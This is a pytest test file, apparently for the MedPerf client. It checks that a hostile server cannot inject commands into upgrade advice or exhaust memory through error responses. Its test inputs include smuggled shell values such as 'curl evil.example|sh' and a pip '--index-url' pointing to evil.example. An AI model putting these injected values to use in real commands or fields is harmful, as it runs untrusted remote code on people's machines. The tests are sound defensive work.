"""A server that means harm: what it says reaches the terminal, the memory and the advice that a person follows."""

from __future__ import annotations

import json
from typing import Any

import pytest

from medperf.client.http import Transport
from medperf.domain.errors import MedPerfError

INSTANCE = "11111111-2222-3333-4444-555555555555"


def asked(server: Any) -> MedPerfError:
    with pytest.raises(MedPerfError) as refused:
        Transport(server.url).request("POST", "/mlcubes", body=b"{}")
    return refused.value


def refuse(serve: Any, status: int = 400, *, version: str = "", **fields: Any) -> MedPerfError:
    document = {"code": "bad_thing", "detail": "What happened.", "fix": "Do this.", "errors": [], **fields}
    text = json.dumps(document).encode()
    headers = {"content_type": "application/problem+json", "medperf_instance": INSTANCE, "medperf_version": version}
    return asked(serve(lambda handler: handler.answer(status, text, **headers)))


@pytest.mark.parametrize(
    "version",
    ["0.0.1 --index-url https://evil.example", "0.0.1;curl evil.example|sh", "0.0.1\u00a0evil", "0." * 500 + "evil"],
)
def test_advice_names_no_version_that_is_none(serve: Any, version: str) -> None:
    """The client tells people to install the version that an older server says it has: that goes to a shell."""
    error = refuse(serve, 404, code="no_such_route", version=version)
    assert error.code == "server_too_old"
    assert "evil" not in error.what + error.fix
    assert len(error.what + error.fix) < 1000


@pytest.mark.parametrize("version", ["99.0 --index-url https://evil.example", "99." * 500 + "evil"])
def test_a_newer_version_that_is_none(serve: Any, version: str) -> None:
    from medperf.client.client import MedPerfClient

    headers = {"content_type": "application/json", "medperf_instance": INSTANCE, "medperf_version": version}
    server = serve(lambda handler: handler.answer(200, b'{"id": 1}', **headers))
    with pytest.raises(MedPerfError) as refused:
        MedPerfClient(Transport(server.url)).mlcubes.get(1)
    assert "evil" not in refused.value.what + refused.value.fix


def test_long_words_are_cut(serve: Any) -> None:
    long = "x" * 1_000_000
    errors = [{"field": long, "message": long, "more": [long]}] * 3
    error = refuse(serve, detail=long, fix=long, errors=errors)
    assert len(error.what) < 20_000
    assert len(error.fix) < 5_000
    assert len(json.dumps(error.details)) < 20_000
    many = refuse(serve, errors=[{"field": "x", "message": str(number)} for number in range(100_000)])
    assert len(json.dumps(many.details)) < 20_000


@pytest.mark.parametrize("code", ["x" * 100_000, "Bad Thing", "bad\nthing", "", "\u202egnp"])
def test_a_code_is_a_word(serve: Any, code: str) -> None:
    """Scripts compare it, and it stands in front of the line."""
    assert refuse(serve, code=code).code == "not_medperf"


@pytest.mark.parametrize(
    "fields", [{"fix": {"a": 1}}, {"fix": 5}, {"errors": {"a": 1}}, {"errors": [1, None, "x", []]}]
)
def test_other_types_than_expected(serve: Any, fields: Any) -> None:
    assert refuse(serve, **fields).code == "bad_thing"


def test_an_answer_that_would_fill_the_memory(serve: Any) -> None:
    """Empty lists take twenty times their text when they are read."""
    text = b"[" + b"[]," * 4_000_000 + b"0]"
    headers = {"content_type": "application/json", "medperf_instance": INSTANCE}
    error = asked(serve(lambda handler: handler.answer(200, text, **headers)))
    assert error.code == "not_medperf"
    assert "bytes" in error.what
